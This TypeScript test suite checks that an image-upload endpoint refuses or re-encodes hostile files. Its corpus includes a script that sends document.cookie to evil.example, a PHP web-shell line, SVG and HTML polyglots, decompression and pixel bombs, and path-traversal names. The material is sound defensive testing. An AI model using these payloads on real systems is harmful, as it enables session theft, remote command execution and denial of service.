// The hostile uploads corpus (issue 43, 'Keep it proven'): every file an attacker or a confused phone might send to
// POST /api/collections/{key}/{question}/elaborations — polyglots, SVG with script, truncated images, pixel floods,
// decompression bombs, executables and path-traversal names, a 25 MB body — made here byte by byte and sent as real
// multipart requests. Each is either refused with its Dutch field message and leaves nothing behind, or stored as
// a new image the server encoded itself (nothing of the original's extra bytes survives), and what the teacher is
// served back is inert: the re-encoded bytes with an image type, never sniffed, sandboxed, under a name the server
// made.
import { randomBytes } from 'node:crypto';
import { request as httpRequest } from 'node:http';
import { crc32, deflateSync } from 'node:zlib';
import sharp from 'sharp';
import { createIdCodec } from '../../server/app/ids.ts';
import { createSetFixture, createUser, signedInClient } from '../setup/factories.ts';
import { startTestServer, type TestServer } from '../setup/server.ts';
import type { HttpClient } from '../setup/client.ts';
import { storedObject } from '../setup/files.ts';

let server: TestServer;
beforeAll(async () => {
  server = await startTestServer();
});
afterAll(async () => {
  await server.close();
});

const db = () => server.db.prisma;
const ids = () => createIdCodec(server.config.idSecret);

const INVALID = 'The given data was invalid.';
const MESSAGES = {
  notAnImage: 'Dit bestand is geen foto: kies een PNG- of JPEG-bestand.',
  tooLarge: 'Het bestand is groter dan 10 MB.',
  tooManyPixels: 'De foto heeft te veel pixels (hoogstens 50 megapixel).',
  unreadable: 'De foto is beschadigd of onvolledig en kan niet worden gelezen.',
};

// ── Making hostile files ──

const PNG_SIGNATURE = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);

function pngChunk(type: string, data: Buffer): Buffer {
  const length = Buffer.alloc(4);
  length.writeUInt32BE(data.length);
  const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(body));
  return Buffer.concat([length, body, crc]);
}

function ihdr(width: number, height: number, bitDepth = 8, colourType = 2): Buffer {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(width, 0);
  header.writeUInt32BE(height, 4);
  header[8] = bitDepth;
  header[9] = colourType;
  return pngChunk('IHDR', header);
}

/** A real PNG with `extra` chunks inserted after its header (before the pixels). */
async function pngWith(extra: Buffer[]): Promise<Buffer> {
  const png = await photo().png().toBuffer();
  // The signature and IHDR (8 + 25 bytes) come first in every PNG sharp writes.
  return Buffer.concat([png.subarray(0, 33), ...extra, png.subarray(33)]);
}

/** A small photo-like image: a blue page with a red block. */
const photo = () =>
  sharp({ create: { width: 320, height: 240, channels: 3, background: '#3366aa' } }).composite([{ input: { create: { width: 80, height: 60, channels: 3, background: '#ff0000' } }, left: 0, top: 0 }]);

/** A ZIP archive of one stored file, written by hand: readers find it from its end, whatever comes before it. */
function zipOf(name: string, content: Buffer): Buffer {
  const fileName = Buffer.from(name, 'latin1');
  const local = Buffer.alloc(30);
  local.writeUInt32LE(0x04034b50, 0);
  local.writeUInt16LE(10, 4);
  local.writeUInt32LE(crc32(content), 14);
  local.writeUInt32LE(content.length, 18);
  local.writeUInt32LE(content.length, 22);
  local.writeUInt16LE(fileName.length, 26);
  const central = Buffer.alloc(46);
  central.writeUInt32LE(0x02014b50, 0);
  central.writeUInt16LE(10, 4);
  central.writeUInt16LE(10, 6);
  central.writeUInt32LE(crc32(content), 16);
  central.writeUInt32LE(content.length, 20);
  central.writeUInt32LE(content.length, 24);
  central.writeUInt16LE(fileName.length, 28);
  const localPart = Buffer.concat([local, fileName, content]);
  const centralPart = Buffer.concat([central, fileName]);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(1, 8);
  end.writeUInt16LE(1, 10);
  end.writeUInt32LE(centralPart.length, 12);
  end.writeUInt32LE(localPart.length, 16);
  return Buffer.concat([localPart, centralPart, end]);
}

/** Appends a ZIP to `prefix` with its offsets moved past the prefix, so the whole file is also a valid ZIP. */
function zipAfter(prefix: Buffer, zip: Buffer): Buffer {
  const moved = Buffer.from(zip);
  const centralStart = moved.readUInt32LE(moved.length - 6);
  moved.writeUInt32LE(centralStart + prefix.length, moved.length - 6);
  moved.writeUInt32LE(moved.readUInt32LE(centralStart + 42) + prefix.length, centralStart + 42);
  return Buffer.concat([prefix, moved]);
}

/** A JPEG with a comment segment (COM, FF FE) holding `text` right after its start. */
async function jpegWithComment(text: string): Promise<Buffer> {
  const jpeg = await photo().jpeg({ quality: 85 }).toBuffer();
  const body = Buffer.from(text, 'latin1');
  const segment = Buffer.alloc(4);
  segment[0] = 0xff;
  segment[1] = 0xfe;
  segment.writeUInt16BE(body.length + 2, 2);
  return Buffer.concat([jpeg.subarray(0, 2), segment, body, jpeg.subarray(2)]);
}

/** A JPEG whose frame header (SOF) declares width × height, the rest of it unchanged. */
async function jpegDeclaring(width: number, height: number): Promise<Buffer> {
  const jpeg = Buffer.from(
    await sharp({ create: { width: 16, height: 16, channels: 3, background: '#ffffff' } })
      .jpeg()
      .toBuffer(),
  );
  for (let i = 2; i < jpeg.length - 9; i++) {
    if (jpeg[i] === 0xff && (jpeg[i + 1] === 0xc0 || jpeg[i + 1] === 0xc2)) {
      jpeg.writeUInt16BE(height, i + 5);
      jpeg.writeUInt16BE(width, i + 7);
      return jpeg;
    }
  }
  throw new Error('no frame header');
}

/** A decompression bomb: a valid 1-bit PNG of 30000 × 30000 pixels (900 megapixels) in about 110 kB. */
function pixelBombPng(): Buffer {
  const rows = Buffer.alloc((1 + 30_000 / 8) * 30_000);
  return Buffer.concat([PNG_SIGNATURE, ihdr(30_000, 30_000, 1, 0), pngChunk('IDAT', deflateSync(rows, { level: 9 })), pngChunk('IEND', Buffer.alloc(0))]);
}

/** A compressed text chunk that inflates to 300 MB: zTXt (keyword, NUL, method 0, zlib data). */
const zTxtBomb = () => pngChunk('zTXt', Buffer.concat([Buffer.from('Comment\0\0', 'latin1'), deflateSync(Buffer.alloc(300 * 1024 * 1024), { level: 9 })]));
/** An ICC profile chunk that inflates to 300 MB: iCCP (name, NUL, method 0, zlib data). */
const iccBomb = () => pngChunk('iCCP', Buffer.concat([Buffer.from('icc\0\0', 'latin1'), deflateSync(Buffer.alloc(300 * 1024 * 1024), { level: 9 })]));

const SCRIPT = '<script>fetch("https://evil.example/?c="+document.cookie)</script>';
const HTML = `<!DOCTYPE html><html><body onload="alert(1)">${SCRIPT}</body></html>`;
const SVG = `<svg xmlns="http://www.w3.org/2000/svg" width="200" height="200" onload="alert(1)">${SCRIPT}<rect width="200" height="200" fill="#3366aa"/></svg>`;
/** The start of a Windows executable: the DOS header and its stub's sentence. */
const EXE = Buffer.concat([
  Buffer.from('MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff', 'latin1'),
  Buffer.alloc(50),
  Buffer.from('This program cannot be run in DOS mode.\r\r\n$', 'latin1'),
  randomBytes(2000),
]);

/** Byte sequences of the hostile payloads: none may be in what is stored or served. */
const PAYLOADS = ['<script', '<html', '<svg', 'onload', '<?php', 'PK\x03\x04', 'PK\x05\x06', 'This program cannot be run', 'evil.example'];

interface Item {
  /** What the file is. */
  label: string;
  bytes: () => Promise<Buffer> | Buffer;
  filename: string;
  type: string;
  /** Refused with this file message, or re-encoded as this format. */
  outcome: { refused: string } | { reencoded: 'png' | 'jpeg' };
  /**
   * Only the name or type is hostile: the bytes are a plain image, which may come back byte for byte as the server
   * itself writes that image (sharp made it with the same settings).
   */
  plain?: true;
}

const CORPUS: Item[] = [
  // Polyglots: an image that is also something else.
  {
    label: 'a PNG with an HTML page and a script after its end',
    bytes: async () => Buffer.concat([await photo().png().toBuffer(), Buffer.from(HTML)]),
    filename: 'uitwerking.png',
    type: 'image/png',
    outcome: { reencoded: 'png' },
  },
  {
    label: 'a PNG that is also a ZIP archive (with an HTML file in it)',
    bytes: async () => zipAfter(await photo().png().toBuffer(), zipOf('index.html', Buffer.from(HTML))),
    filename: 'uitwerking.png',
    type: 'image/png',
    outcome: { reencoded: 'png' },
  },
  {
    label: 'a PNG with script and HTML in its text chunks',
    bytes: () => pngWith([pngChunk('tEXt', Buffer.from(`Comment\0${HTML}`, 'latin1')), pngChunk('iTXt', Buffer.from(`XML:com.adobe.xmp\0\0\0\0\0${SVG}`, 'latin1'))]),
    filename: 'uitwerking.png',
    type: 'image/png',
    outcome: { reencoded: 'png' },
  },
  { label: 'a JPEG with HTML in a comment segment', bytes: () => jpegWithComment(HTML), filename: 'IMG_2043.jpg', type: 'image/jpeg', outcome: { reencoded: 'jpeg' } },
  {
    label: 'a JPEG with PHP after its end',
    bytes: async () => Buffer.concat([await photo().jpeg().toBuffer(), Buffer.from('<?php system($_GET["c"]); ?>')]),
    filename: 'IMG_2044.jpg',
    type: 'image/jpeg',
    outcome: { reencoded: 'jpeg' },
  },
  {
    label: 'an HTML page behind a PNG signature',
    bytes: () => Buffer.concat([PNG_SIGNATURE, Buffer.from(HTML)]),
    filename: 'uitwerking.png',
    type: 'image/png',
    outcome: { refused: MESSAGES.unreadable },
  },
  {
    label: 'a GIF that is also JavaScript (GIF89a=…)',
    bytes: () => Buffer.from(`GIF89a=1;${SCRIPT.replace(/<\/?script>/g, '')}`),
    filename: 'uitwerking.gif',
    type: 'image/gif',
    outcome: { refused: MESSAGES.notAnImage },
  },
  // SVG with script.
  { label: 'an SVG with a script', bytes: () => Buffer.from(SVG), filename: 'tekening.svg', type: 'image/svg+xml', outcome: { refused: MESSAGES.notAnImage } },
  { label: 'an SVG with a script named .png', bytes: () => Buffer.from(SVG), filename: 'tekening.png', type: 'image/png', outcome: { refused: MESSAGES.notAnImage } },
  {
    label: 'an SVG behind an XML declaration and a BOM, named .jpg',
    bytes: () => Buffer.from(`\ufeff<?xml version="1.0"?>${SVG}`),
    filename: 'foto.jpg',
    type: 'image/jpeg',
    outcome: { refused: MESSAGES.notAnImage },
  },
  // Truncated images.
  {
    label: 'a PNG cut off in its pixels',
    bytes: async () => {
      const png = await photo().png().toBuffer();
      return png.subarray(0, Math.floor(png.length / 2));
    },
    filename: 'uitwerking.png',
    type: 'image/png',
    outcome: { refused: MESSAGES.unreadable },
  },
  {
    label: 'a PNG with a header and no pixels',
    bytes: () => Buffer.concat([PNG_SIGNATURE, ihdr(640, 480), pngChunk('IEND', Buffer.alloc(0))]),
    filename: 'uitwerking.png',
    type: 'image/png',
    outcome: { refused: MESSAGES.unreadable },
  },
  {
    label: 'a JPEG cut off at 60 %',
    bytes: async () => {
      const jpeg = await photo().jpeg().toBuffer();
      return jpeg.subarray(0, Math.floor(jpeg.length * 0.6));
    },
    filename: 'IMG_2045.jpg',
    type: 'image/jpeg',
    outcome: { refused: MESSAGES.unreadable },
  },
  // Pixel floods: huge dimensions in a tiny file.
  {
    label: 'a PNG declaring 100000 × 100000 pixels in 60 bytes',
    bytes: () => Buffer.concat([PNG_SIGNATURE, ihdr(100_000, 100_000), pngChunk('IEND', Buffer.alloc(0))]),
    filename: 'groot.png',
    type: 'image/png',
    outcome: { refused: MESSAGES.tooManyPixels },
  },
  { label: 'a JPEG declaring 65000 × 65000 pixels in under 1 kB', bytes: () => jpegDeclaring(65_000, 65_000), filename: 'groot.jpg', type: 'image/jpeg', outcome: { refused: MESSAGES.tooManyPixels } },
  {
    label: 'a PNG of 8000 × 6500 pixels (52 megapixels), one colour',
    bytes: () =>
      sharp({ create: { width: 8000, height: 6500, channels: 3, background: '#ffffff' } })
        .png()
        .toBuffer(),
    filename: 'wit.png',
    type: 'image/png',
    outcome: { refused: MESSAGES.tooManyPixels },
  },
  // Decompression bombs.
  { label: 'a PNG of 900 megapixels in 110 kB', bytes: pixelBombPng, filename: 'bom.png', type: 'image/png', outcome: { refused: MESSAGES.tooManyPixels } },
  { label: 'a PNG with a text chunk that inflates to 300 MB', bytes: () => pngWith([zTxtBomb()]), filename: 'bom.png', type: 'image/png', outcome: { reencoded: 'png' } },
  { label: 'a PNG with an ICC profile that inflates to 300 MB', bytes: () => pngWith([iccBomb()]), filename: 'bom.png', type: 'image/png', outcome: { reencoded: 'png' } },
  // Wrong names and types: the bytes decide.
  { label: 'a Windows executable sent as image/png', bytes: () => EXE, filename: 'foto.png', type: 'image/png', outcome: { refused: MESSAGES.notAnImage } },
  { label: 'an executable named with a double extension', bytes: () => EXE, filename: 'foto.jpg.exe', type: 'application/x-msdownload', outcome: { refused: MESSAGES.notAnImage } },
  {
    label: 'a real PNG named setup.exe, sent as an executable',
    bytes: () => photo().png().toBuffer(),
    filename: 'setup.exe',
    type: 'application/x-msdownload',
    outcome: { reencoded: 'png' },
    plain: true,
  },
  { label: 'a real JPEG named foto.php.jpg, sent as text/html', bytes: () => photo().jpeg().toBuffer(), filename: 'foto.php.jpg', type: 'text/html', outcome: { reencoded: 'jpeg' }, plain: true },
  {
    label: 'a real PNG named with a path out of the upload folder',
    bytes: () => photo().png().toBuffer(),
    filename: '../../../../etc/cron.d/evil.png',
    type: 'image/png',
    outcome: { reencoded: 'png' },
    plain: true,
  },
  {
    label: 'a real JPEG named with a Windows path and a NUL',
    bytes: () => photo().jpeg().toBuffer(),
    filename: '..\\..\\windows\\win.ini\u0000.jpg',
    type: 'image/jpeg',
    outcome: { reencoded: 'jpeg' },
    plain: true,
  },
];

// ── Sending ──

let owner: HttpClient;
let setKey: string;
let question: string;
beforeAll(async () => {
  const user = await createUser(db(), { role: 'docent' });
  owner = await signedInClient(server, user.email);
  const topic = await db().topic.findFirstOrThrow({
    where: { name: 'Tram in de binnenstad', exam: { stream: { slug: 'natuurkunde-havo' } } },
    select: { id: true, exam: { select: { streamId: true } }, questions: { orderBy: { number: 'asc' }, take: 1, select: { id: true } } },
  });
  const set = await createSetFixture(db(), { ownerId: user.id, streamId: topic.exam.streamId, name: 'Corpus', topicOrder: [topic.id], questionIds: [topic.questions[0]!.id] });
  setKey = set.key;
  question = ids().encode(topic.questions[0]!.id);
});

const uploadPath = () => `/api/collections/${setKey}/${question}/elaborations`;

// eslint-disable-next-line @typescript-eslint/no-explicit-any -- the answer's JSON, read field by field by the assertions
async function send(bytes: Buffer, filename: string, type: string): Promise<{ status: number; body: any }> {
  const client = server.client();
  await client.csrf();
  const form = new FormData();
  form.append('file', new Blob([new Uint8Array(bytes)], { type }), filename);
  // Each file from a new phone, which the server gives a device key: the corpus is about files, not the per-device limits.
  const response = await client.request('POST', uploadPath(), form);
  const text = await response.text();
  return { status: response.status, body: text ? JSON.parse(text) : undefined };
}

async function footprint() {
  const [elaborations, files] = await Promise.all([db().elaboration.count(), db().storedFile.count()]);
  return { elaborations, files };
}

const contains = (haystack: Buffer, needle: string) => haystack.includes(Buffer.from(needle, 'latin1'));

const outcomes: string[] = [];
afterAll(() => {
  // 100 % neutralised: every file of the corpus was refused or re-encoded (each case checks which).
  expect(outcomes.length).toBe(CORPUS.length);
});

describe('the hostile uploads corpus: each file refused, or re-encoded and served inert', () => {
  it.each(CORPUS.map((item) => [item.label, item] as const))('%s', async (_label, item) => {
    const bytes = await item.bytes();
    const before = await footprint();
    const started = Date.now();
    const answer = await send(bytes, item.filename, item.type);
    // Nothing in the corpus takes the server long: bombs are refused from their header, or their chunks dropped.
    expect(Date.now() - started).toBeLessThan(10_000);

    if ('refused' in item.outcome) {
      expect(answer).toEqual({ status: 422, body: { message: INVALID, errors: { file: [item.outcome.refused] } } });
      expect(await footprint()).toEqual(before);
      outcomes.push('refused');
      return;
    }

    expect(answer.status).toBe(201);
    expect(await footprint()).toEqual({ elaborations: before.elaborations + 1, files: before.files + 1 });
    const row = await db().elaboration.findUniqueOrThrow({ where: { id: ids().decode(answer.body.id)! }, select: { file: true } });
    const stored = await storedObject(row.file);
    const format = item.outcome.reencoded;
    // Under a name the server made, whatever the client called it.
    expect(row.file.name).toMatch(format === 'png' ? /^[0-9a-f]{32}\.png$/ : /^[0-9a-f]{32}\.jpg$/);
    expect(row.file.mime).toBe(format === 'png' ? 'image/png' : 'image/jpeg');
    // New bytes: a complete image of the format and nothing else, without any metadata.
    if (!item.plain) expect(stored.equals(bytes)).toBe(false);
    const meta = await sharp(stored, { failOn: 'error' }).metadata();
    expect([meta.format, meta.width, meta.height]).toEqual([format, 320, 240]);
    expect([meta.exif, meta.icc, meta.xmp, meta.iptc, meta.comments]).toEqual([undefined, undefined, undefined, undefined, undefined]);
    for (const payload of PAYLOADS) expect([payload, contains(stored, payload)]).toEqual([payload, false]);
    // The stored file ends where its format ends: nothing rides behind it.
    if (format === 'png') expect(stored.subarray(-8).toString('latin1')).toBe('IEND\xaeB`\x82');
    else expect([...stored.subarray(-2)]).toEqual([0xff, 0xd9]);
    expect(stored.length).toBeLessThan(1_000_000);

    // Served back to the teacher as exactly those bytes, as an image that no browser runs or sniffs.
    const served = await owner.get(`/api/elaborations/${answer.body.id}`);
    expect(served.status).toBe(200);
    expect(served.headers.get('content-type')).toBe(format === 'png' ? 'image/png' : 'image/jpeg');
    expect(served.headers.get('x-content-type-options')).toBe('nosniff');
    expect(served.headers.get('content-security-policy')).toBe("default-src 'none'; sandbox");
    expect(served.headers.get('content-disposition')).toBe('inline');
    expect(Buffer.from(await served.arrayBuffer()).equals(stored)).toBe(true);
    outcomes.push('reencoded');
  });
});

describe('the pixel limit of 50 megapixels, from the header before anything is decoded', () => {
  // Files that are a header and nothing to decode: a decoder that ran would find no pixels ('unreadable'), so 'too many
  // pixels' can only come from the count the header declares, taken before decoding. 10000 × 5000 is the limit
  // exactly (allowed, and then found to have no pixels); one row more is over it. (A JPEG declaring 10000 × 5000 over
  // 16 × 16 of data is not refused: libjpeg fills the missing rows in with a warning, not an error, so it is decoded
  // and stored as a grey 50-megapixel image; the rates and the two decodes at a time bound what that costs.)
  const headerOnlyPng = (width: number, height: number) => Buffer.concat([PNG_SIGNATURE, ihdr(width, height), pngChunk('IEND', Buffer.alloc(0))]);
  it.each([
    ['a PNG header of 10000 × 5001 pixels', async () => headerOnlyPng(10_000, 5_001), 'kaal.png', 'image/png', MESSAGES.tooManyPixels],
    ['a PNG header of 10000 × 5000 pixels', async () => headerOnlyPng(10_000, 5_000), 'kaal.png', 'image/png', MESSAGES.unreadable],
    ['a JPEG declaring 10000 × 5001 pixels over 16 × 16 of data', () => jpegDeclaring(10_000, 5_001), 'kaal.jpg', 'image/jpeg', MESSAGES.tooManyPixels],
  ] as const)('%s', async (_label, bytes, filename, type, message) => {
    const before = await footprint();
    expect(await send(await bytes(), filename, type)).toEqual({ status: 422, body: { message: INVALID, errors: { file: [message] } } });
    expect(await footprint()).toEqual(before);
  });
});

describe('a 25 MB body', () => {
  it('announced as 25 MB: refused (413) before it is read, and nothing stored', async () => {
    const before = await footprint();
    const answer = await send(Buffer.concat([await photo().jpeg().toBuffer(), randomBytes(25 * 1024 * 1024)]), 'groot.jpg', 'image/jpeg');
    expect(answer).toEqual({ status: 413, body: { message: INVALID, errors: { file: [MESSAGES.tooLarge] } } });
    expect(await footprint()).toEqual(before);
  });

  it('sent in chunks without a length: read up to the limit, refused (422), and nothing stored', async () => {
    const client = server.client();
    await client.csrf();
    const token = client.cookies.get('XSRF-TOKEN')!;
    const before = await footprint();
    const answer = await new Promise<{ status: number; body: string }>((resolve, reject) => {
      const request = httpRequest(`${server.url}${uploadPath()}`, {
        method: 'POST',
        headers: {
          'Content-Type': 'multipart/form-data; boundary=----grens',
          'Transfer-Encoding': 'chunked',
          Cookie: `XSRF-TOKEN=${token}`,
          'X-XSRF-TOKEN': decodeURIComponent(token),
          Accept: 'application/json',
        },
      });
      request.on('response', (response) => {
        let body = '';
        response.setEncoding('utf8');
        response.on('data', (chunk: string) => (body += chunk));
        response.on('end', () => resolve({ status: response.statusCode!, body }));
      });
      request.on('error', reject);
      request.write('------grens\r\nContent-Disposition: form-data; name="file"; filename="groot.jpg"\r\nContent-Type: image/jpeg\r\n\r\n');
      // 25 chunks of 1 MB, a JPEG start first.
      request.write(Buffer.from([0xff, 0xd8, 0xff, 0xe0]));
      for (let i = 0; i < 25; i++) request.write(randomBytes(1024 * 1024));
      request.end('\r\n------grens--\r\n');
    });
    expect(answer.status).toBe(422);
    expect(JSON.parse(answer.body)).toEqual({ message: INVALID, errors: { file: [MESSAGES.tooLarge] } });
    expect(await footprint()).toEqual(before);
  });
});
